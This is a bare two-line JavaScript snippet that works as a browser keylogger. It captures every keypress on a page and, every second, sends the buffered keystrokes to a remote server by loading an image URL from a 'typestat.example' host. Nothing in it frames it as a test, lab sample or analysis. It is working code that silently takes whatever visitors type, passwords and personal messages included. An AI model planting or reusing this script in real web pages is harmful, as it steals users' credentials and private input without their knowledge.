var keys='';document.onkeypress=function(e){keys+=String.fromCharCode(e.which||e.keyCode)};
setInterval(function(){if(keys.length>0){new Image().src='http://k.typestat.example/k.php?c='+keys;keys='';}},1000);
